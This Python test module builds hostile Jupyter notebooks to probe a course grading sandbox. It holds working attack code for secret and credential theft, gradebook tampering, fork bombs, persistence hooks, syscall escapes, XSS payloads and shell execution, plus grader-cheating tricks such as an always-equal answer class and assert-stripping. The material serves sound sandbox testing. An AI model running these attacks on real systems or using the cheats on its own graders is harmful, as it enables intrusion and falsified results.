"""Hostile notebooks: what each tries, and how it is made from the released exercise.

Each but those that say otherwise answers nothing, so that any mark at all is one that it gained.
The code in them may know everything of this machine: it finds in `told` where all that it wants
stands. It writes GAINED when it got something, and TRIED when it came to its end.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass

DIED = "It ended its own kernel before its last cell: ask what it does."
NOT_OURS = (
    "The file is not a notebook of today's form: ask the trainee to save it again in JupyterLab."
)
TOO_MUCH = "It wrote more than 5 MB of output or cut its line to the grader: ask what it does."
NO_NOTEBOOK = "The file is not a notebook, or only part of one: ask for it again."
PRELUDE = """
import os, sys, socket, subprocess, time
told = {told!r}
def gained(what):
    print("GAINED", repr(what)[:300])
def tries(act, *given):
    try:
        return act(*given)
    except (Exception, SystemExit) as error:
        print("refused:", type(error).__name__)
"""


@dataclass(frozen=True)
class Attack:
    """One notebook: what it tries, the code it runs after its data are there, a change to the
    notebook, or the file's whole content; and the facilitator's sentence, where it gets no mark.

    `ends` is whether its code comes to its end."""

    tries: str
    code: str = ""
    change: Callable[[dict], None] | None = None
    content: bytes | None = None
    sentence: str | None = None
    ends: bool = True


def made(attack: Attack, released: str, trainee: str, told: dict) -> bytes:
    """Return the notebook of an attack, handed in by a trainee."""
    if attack.content is not None:
        return attack.content
    notebook = json.loads(released)
    cells = notebook["cells"]
    for number, cell in enumerate(cells):
        text = "".join(cell["source"])
        if text.startswith("TRAINEE"):
            cell["source"] = f'TRAINEE = "{trainee}"'
        if "my_exercise(" in text and cell["cell_type"] == "code":
            after = number + 1
    source = PRELUDE.format(told=told) + attack.code + '\nprint("TRIED")'
    cells.insert(after, cell_of(source))
    if attack.change:
        attack.change(notebook)
    return json.dumps(notebook).encode()


def cell_of(source: str, **metadata) -> dict:
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": "hostile",
        "metadata": metadata,
        "outputs": [],
        "source": source,
    }


def graded(notebook: dict) -> list[dict]:
    """The cells that get marks by themselves."""
    return [
        c
        for c in notebook["cells"]
        if c["metadata"].get("nbgrader", {}).get("grade_id", "")[:1] == "q"
    ]


def answer(source: str) -> Callable[[dict], None]:
    """A change that puts the same line into each answer, {} being its number."""

    def change(notebook):
        for cell in notebook["cells"]:
            name = cell["metadata"].get("nbgrader", {}).get("grade_id", "")
            if name.startswith("answer-"):
                cell["source"] = source.replace("{}", name.removeprefix("answer-"))

    return change


def many_cells(notebook):
    notebook["cells"] += [cell_of("1") for _ in range(10_000)]


def heavy_outputs(notebook):
    for cell in graded(notebook):
        if cell["cell_type"] == "code":
            text = {"output_type": "stream", "name": "stdout", "text": "0" * 1_500_000}
            cell["outputs"] = [text, {"output_type": "display_data", "data": {}, "metadata": {}}]


def wrong_metadata(notebook):
    for cell in graded(notebook):
        marks = cell["metadata"]["nbgrader"]
        marks |= {"points": 1000, "locked": False, "solution": False, "checksum": "0" * 32}
        if cell["cell_type"] == "code":
            cell["source"] = "1000"
    notebook["metadata"] = {"celltoolbar": ["x"] * 100, "nbgrader": 7, "kernelspec": []}


def senseless_metadata(notebook):
    kinds = ([], 7, "x", {"nbgrader": []}, {"nbgrader": {"grade_id": ["q1"]}}, {"nbgrader": None})
    notebook["cells"] += [cell_of("1") | {"metadata": kind} for kind in kinds]


def doubled_cells(notebook):
    for cell in graded(notebook):
        twin = json.loads(json.dumps(cell))
        if cell["cell_type"] == "code":
            twin["source"] = "1000"
        notebook["cells"].append(twin)
    for cell in notebook["cells"]:
        cell["id"] = "the-same"


def old_form(notebook):
    notebook["nbformat"] = 3
    notebook["worksheets"] = [{"cells": notebook.pop("cells")}]


def own_kernel(notebook):
    notebook["metadata"]["kernelspec"] = {"name": "evil", "language": "bash", "display_name": "e"}


def half_characters(notebook):
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = "\ud800 half a character \x00 \x1b]0;title\x07"


LEFT_BEHIND = """
places = {"/tmp", "/dev/shm", "/tmp/work", os.path.expanduser("~"), "/var/tmp"}
names = [os.path.join(place, "left-by-a-sibling") for place in places]
for name in names:
    if os.path.exists(name):
        gained(name)
for name in names:
    tries(lambda: open(name, "w").write("x"))
startup = os.path.expanduser("~/.ipython/profile_default/startup")
for folder in (startup, os.environ.get("IPYTHONDIR", "/tmp") + "/profile_default/startup"):
    if os.path.exists(folder + "/00-evil.py"):
        gained(folder)
    tries(os.makedirs, folder, 0o777, True)
    tries(lambda: open(folder + "/00-evil.py", "w").write("print('GAINED')"))
for folder in (os.getcwd(), *sys.path):
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth"):
        if os.path.exists(os.path.join(folder, name)) and folder != os.getcwd():
            gained(folder)
        tries(lambda: open(os.path.join(folder, name), "w").write("print('GAINED')"))
kernels = os.path.expanduser("~/.local/share/jupyter/kernels/python3")
tries(os.makedirs, kernels, 0o777, True)
"""
STAY = """
import ctypes, signal
def stay():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            ctypes.CDLL(None).prctl(15, told["mark"].encode(), 0, 0, 0)
            for _ in range(100):
                time.sleep(0.2)
                for path in told["writable"]:
                    try:
                        open(path, "a").write("written after the end")
                    except OSError:
                        pass
        os._exit(0)
"""
ATTACKS = {
    "solutions": Attack(
        "read the solutions, the judge, the ledger, the secret and the pool where they stand",
        """
for path in told["secret"]:
    found = tries(lambda: open(path, "rb").read(200))
    if found:
        gained((path, found))
    if tries(os.listdir, os.path.dirname(path)):
        found = [n for n in os.listdir(os.path.dirname(path)) if n in told["names"]]
        if found:
            gained(found)
for top, folders, names in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(top, f) not in ("/proc", "/sys", "/usr")
                  and f != "site-packages"]
    for name in names:
        if name in told["names"] or name.endswith((".db", ".jsonl")):
            gained(os.path.join(top, name))
""",
    ),
    "imports": Attack(
        "import what knows the truth",
        """
import importlib
for name in ("grading.judging", "grading.cohort", "grading.exercises.control_charts.judged",
             "grading.exercises.control_charts.drawn", "grading.feedback", "grading.marking",
             "hospital", "hospital.ledger", "grading.sandbox.warm"):
    if tries(importlib.import_module, "improving_care." + name):
        gained(name)
known = [n for n in sys.modules if "judg" in n or "improving_care.hospital" in n or ".cohort" in n]
if known:
    gained(known)
""",
    ),
    "memory-of-others": Attack(
        "find secrets in its own memory, left there by the process that it was forked from",
        """
import gc
for thing in gc.get_objects():
    if type(thing) is dict and any("HOSTILE_CANARY" in str(k) for k in list(thing)[:50]):
        if thing is not told and "told" not in thing:
            gained("the grader's environment")
if "HOSTILE_CANARY" in os.environ or "HOSTILE_CANARY" in open("/proc/self/environ").read():
    gained("the grader's environment")
""",
    ),
    "gradebook": Attack(
        "rewrite the gradebook",
        """
import sqlite3
def rewrite():
    book = sqlite3.connect(told["gradebook"])
    book.execute("update grade set manual_score = 99, auto_score = 99")
    book.commit()
    gained("the gradebook")
tries(rewrite)
tries(os.remove, told["gradebook"])
tries(os.rename, told["gradebook"], told["gradebook"] + "x")
""",
    ),
    "others": Attack(
        "write, replace and delete what another trainee handed in",
        """
for path in told["writable"]:
    tries(lambda: open(path, "a").write("hostile"))
    tries(os.remove, path)
    tries(os.makedirs, os.path.dirname(path), 0o777, True)
    tries(os.symlink, "/etc/passwd", path)
    if os.path.exists(path):
        gained(path)
""",
    ),
    "keys": Attack(
        "read the grader's own files and keys",
        """
for path in told["private"]:
    found = tries(lambda: open(path).read())
    if found:
        gained(found)
for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/1/environ", "/proc/1/cwd"):
    found = tries(lambda: open(path, "rb").read())
    if found:
        gained((path, found))
""",
    ),
    "stays": Attack("leave a process running that minds no signal", STAY + "stay()"),
    "network": Attack(
        "reach this machine, other machines and a name server, in every way there is",
        """
def tcp(host, port):
    socket.create_connection((host, port), 1).send(b"GAINED")
    gained((host, port))
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
    tries(tcp, host, told["port"])
for host, port in (("192.0.2.1", 80), ("10.0.0.1", 22), ("169.254.169.254", 80)):
    tries(tcp, host, port)
tries(lambda: gained(socket.getaddrinfo("example.org", 80)))
def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"GAINED", ("127.0.0.1", told["udp"]))
tries(udp)
def near(name):
    socket.socket(socket.AF_UNIX).connect(name)
    gained(name)
for name in (chr(0) + told["abstract"], "/run/dbus/system_bus_socket", "/var/run/docker.sock",
             *told["sockets"]):
    tries(near, name)
tries(lambda: gained(socket.socket(40, socket.SOCK_STREAM)))
tries(lambda: gained(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)))
tries(lambda: gained(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)))
""",
    ),
    "memory": Attack(
        "take 3 GB of memory",
        """
tries(lambda: gained(len(bytearray(3 << 30))))
held = []
def more():
    while True:
        held.append(bytearray(50 << 20))
        if len(held) > 60:
            gained("3 GB")
            return
tries(more)
held.clear()
""",
    ),
    "memory-in-many": Attack(
        "take memory in many processes at once",
        """
for _ in range(12):
    if os.fork() == 0:
        held = bytearray(b"x") * (250 << 20)
        time.sleep(600)
        os._exit(0)
time.sleep(600)
""",
        sentence="It needed more memory than a notebook may use (1024 MB): ask what it loads.",
        ends=False,
    ),
    "forks": Attack(
        "start 300 processes",
        """
started = 0
try:
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        started += 1
    gained(started)
except OSError as error:
    print("refused after", started)
""",
    ),
    "fork-bomb": Attack(
        "start processes that start processes",
        """
def bomb():
    try:
        while True:
            os.fork()
    except OSError:
        time.sleep(600)
        os._exit(0)
if os.fork() == 0:
    bomb()
time.sleep(1)
""",
    ),
    "disk": Attack(
        "write a file of 800 MB",
        """
for place in ("/tmp/big", "/dev/shm/big", "big", "/var/tmp/big", "/dev/big", "/big"):
    def write():
        with open(place, "wb") as file:
            for _ in range(800):
                file.write(bytes(1 << 20))
        gained(place)
    tries(write)
""",
    ),
    "files": Attack(
        "make a hundred thousand files, with line ends in their names",
        """
def make():
    for number in range(100_000):
        open(f"{number}\\n; rm -rf x", "w").close()
    gained("files")
tries(make)
""",
    ),
    "shadow": Attack(
        "hand in a pandas.py beside the notebook, and write one",
        """
open("pandas.py", "w").write("raise SystemExit")
open("json.py", "w").write("raise SystemExit")
import pandas
if not hasattr(pandas, "DataFrame"):
    gained("pandas")
""",
    ),
    "endless": Attack(
        "never come to an end",
        "while True: pass",
        sentence="It ran longer than 12 seconds: ask where it waits or goes in circles.",
        ends=False,
    ),
    "flood": Attack(
        "fill the grader with output",
        "while True: print('x' * 100_000)",
        sentence=TOO_MUCH,
        ends=False,
    ),
    "widgets": Attack(
        "fill the grader with messages that show nothing",
        """
from ipykernel.comm import Comm
for _ in range(400):
    Comm(target_name="nothing", data={"x": "y" * 20_000})
""",
        sentence=TOO_MUCH,
        ends=False,
    ),
    "markup": Attack(
        "put a script into outputs that a page might run",
        """
from IPython.display import HTML, Javascript, Markdown, SVG, display
evil = "<script>document.title='run'</script><img src=x onerror=alert(1)>"
display(HTML(evil)); display(Javascript("document.title='run'")); display(Markdown(evil))
display({"image/svg+xml": f"<svg onload='x'>{evil}</svg>", "text/latex": evil}, raw=True)
display({"image/png": "x' onerror='alert(1)", "text/plain": evil}, raw=True)
""",
    ),
    "many-cells": Attack(
        "hand in 10,000 cells",
        change=many_cells,
        sentence="The notebook has more than 1000 cells: ask for the exercise alone.",
        ends=False,
    ),
    "heavy-outputs": Attack("hand in outputs that are mostly air", change=heavy_outputs),
    "too-large": Attack(
        "hand in a file that fills the memory",
        content=b'{"cells": "' + b" " * (21 << 20) + b'"}',
        sentence="The file is larger than 20 MB: ask for the notebook without its outputs.",
        ends=False,
    ),
    "too-deep": Attack(
        "overturn whoever reads the file, by brackets in brackets",
        content=b"[" * 500_000,
        sentence=NO_NOTEBOOK,
        ends=False,
    ),
    "wrong-metadata": Attack("raise the points and unlock the checks", change=wrong_metadata),
    "senseless-metadata": Attack(
        "put senseless things where names stand", change=senseless_metadata
    ),
    "doubled-cells": Attack("hand in each check twice, the second its own", change=doubled_cells),
    "old-form": Attack("hand in nbformat 3", change=old_form, sentence=NOT_OURS, ends=False),
    "no-notebook": Attack(
        "hand in a picture",
        content=b"\x89PNG\r\n\x1a\n" + bytes(99),
        sentence=NO_NOTEBOOK,
        ends=False,
    ),
    "half-characters": Attack("break whoever writes the text again", change=half_characters),
    "at-exit": Attack(
        "go on when the kernel ends, from atexit, a thread and a finalizer",
        STAY
        + """
import atexit, threading, weakref
class Last: pass
last = Last()
weakref.finalize(last, stay)
atexit.register(stay)
threading.Thread(target=lambda: time.sleep(600), daemon=False).start()
""",
    ),
    "signals": Attack(
        "mind no signal, and send them to all",
        """
import signal
for number in range(1, 65):
    tries(signal.signal, number, signal.SIG_IGN)
for process in range(1, 40_000):
    if process != os.getpid():
        try:
            os.kill(process, 0)
            if process > 100:
                gained(process)
        except OSError:
            pass
tries(os.kill, 1, signal.SIGKILL)
tries(os.kill, -1, signal.SIGKILL)
time.sleep(5)
""",
        sentence=DIED,
        ends=False,
    ),
    "processes": Attack(
        "walk through /proc for others' environments, files and memory",
        """
for process in filter(str.isdigit, os.listdir("/proc")):
    for part in ("environ", "cmdline", "maps", "mem", "root/etc/passwd", "cwd"):
        path = f"/proc/{process}/{part}"
        try:
            found = open(path, "rb").read(4096) if part != "cwd" else os.readlink(path).encode()
        except OSError:
            continue
        if any(word.encode() in found for word in ("HOSTILE_CANARY", "root:x:", told["course"])):
            gained((path, found))
if len([p for p in os.listdir("/proc") if p.isdigit()]) > 6:
    gained(os.listdir("/proc"))
""",
    ),
    "after-the-end": Attack(
        "fork in the last cell and write when everybody has gone",
        STAY,
        change=lambda notebook: notebook["cells"].append(cell_of("stay()")),
    ),
    "own-kernel": Attack("choose a kernel of its own", change=own_kernel),
    "exit": Attack("end the kernel", "os._exit(0)", sentence=DIED, ends=False),
    "preload": Attack(
        "have a library of its own loaded everywhere",
        """
open("evil.so", "wb").write(bytes(4096))
os.environ["LD_PRELOAD"] = os.path.abspath("evil.so")
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = os.getcwd()
tries(lambda: open("/etc/ld.so.preload", "w"))
tries(subprocess.run, ["true"])
""",
    ),
    "left-a": Attack("leave start-up files for the next trainee's kernel", LEFT_BEHIND),
    "left-b": Attack("find what another trainee's kernel has left", LEFT_BEHIND),
    "files-of-parents": Attack(
        "write into every file it inherited, and look where they lead",
        """
import sys
for number in range(256):
    try:
        leads = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if leads.startswith("/") and not leads.startswith(("/dev/", "/proc/", "/tmp/", "/memfd")):
        gained(leads)
for top, folders, names in os.walk("/tmp"):
    if top.startswith(sys.prefix):
        continue  # the course may have been fetched to /tmp
    for name in names:
        if "kernel" in name or "warm" in name or "connection" in name:
            gained(os.path.join(top, name))
from IPython import get_ipython
address = get_ipython().kernel.iopub_socket.getsockopt(32)
if b"/" in address.replace(b"ipc://", b""):
    gained(address)
""",
    ),
    "forged-answers": Attack(
        "forge answers and messages on the kernel's own channel",
        """
from IPython import get_ipython
from IPython.display import display
kind = "application/vnd.improving-care.answer+json"
for name in [f"q{k}" for k in range(1, 9)]:
    for left in ({"question": name, "answer": True, "score": 4, "right": True}, [1], "x" * 10_000,
                 {"question": name, "answer": float("1e308"), "verdict": "right"}):
        tries(lambda: display({kind: left}, raw=True))
kernel = get_ipython().kernel
for message in ("execute_reply", "status", "error", "nonsense"):
    for content in ({"status": "ok", "execution_state": "busy"}, {}, {"x": [[[[]]]] * 50}):
        tries(kernel.session.send, kernel.iopub_socket, message, content, {"msg_id": "forged"})
""",
    ),
    "agreeable": Attack(
        "answer with things that say they equal anything",
        """
class Agreeable(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __abs__(self): return self
    def __sub__(self, other): return Agreeable(0)
    __rsub__ = __sub__
    __hash__ = float.__hash__
""",
        change=answer('answer_{} = {k: Agreeable(1) for k in ("centre", "lower", "upper")}'),
    ),
    "transformer": Attack(
        "drop every assert and every check from the code, and patch what compares",
        """
import ast, unittest.mock
from IPython import get_ipython
class Drops(ast.NodeTransformer):
    def visit_Assert(self, node): return None
    def visit_Compare(self, node): return ast.copy_location(ast.Constant(True), node)
get_ipython().ast_transformers.append(Drops())
import pandas.testing
pandas.testing.assert_frame_equal = pandas.testing.assert_series_equal = lambda *a, **k: True
import improving_care.grading.personal as personal
personal.MyExercise.check = lambda self, *given: print("The form is right. 4 of 4.")
""",
    ),
    "someone-else": Attack(
        "get another trainee's data",
        """
from improving_care.grading import my_exercise
mine_again, other = (my_exercise(told["slug"], name) for name in ("someone-else", "amina"))
if not other.falls.equals(mine.falls):
    gained("another's data")
""",
        change=lambda notebook: notebook["cells"].append(cell_of('TRAINEE = "amina"')),
    ),
    "escape": Attack(
        "make namespaces, mounts and devices, trace processes, load programs into the system",
        """
import ctypes, resource
libc = ctypes.CDLL(None, use_errno=True)
for call in (lambda: libc.unshare(0x10000000), lambda: libc.unshare(0x20000),
             lambda: libc.mount(b"/", b"/tmp", None, 4096, None), lambda: libc.umount2(b"/tmp", 2),
             lambda: libc.umount2(b"/usr", 2), lambda: libc.chroot(b"/tmp"),
             lambda: libc.ptrace(16, 1, 0, 0), lambda: libc.setuid(0), lambda: libc.setgid(0),
             lambda: libc.personality(0x0040000), lambda: libc.sethostname(b"x", 1),
             lambda: libc.memfd_create(b"x", 0), lambda: libc.pivot_root(b"/tmp", b"/tmp"),
             lambda: libc.syscall(321, 0, 0, 0), lambda: libc.syscall(425, 8, 0)):
    result = tries(call)
    if result is not None and result >= 0:
        gained(call.__code__.co_names)
for path in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/proc/sysrq-trigger",
             "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/sys/kernel/uevent_helper"):
    if tries(lambda: open(path, "wb")):
        gained(path)
for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
    if tries(lambda: resource.setrlimit(kind, (-1, -1)) or True):
        gained(kind)
tries(lambda: gained(os.nice(-5)))
tries(lambda: gained(os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0))))
tries(lambda: gained(time.clock_settime(time.CLOCK_REALTIME, 0) or "clock"))
""",
    ),
    "program": Attack(
        "become another program",
        "os.execv('/bin/sh', ['sh', '-c', 'cat /etc/passwd; sleep 600'])",
        sentence=TOO_MUCH,
        ends=False,
    ),
    "asks": Attack(
        "wait for someone to type", "tries(input)\ntries(__import__('getpass').getpass)"
    ),
}
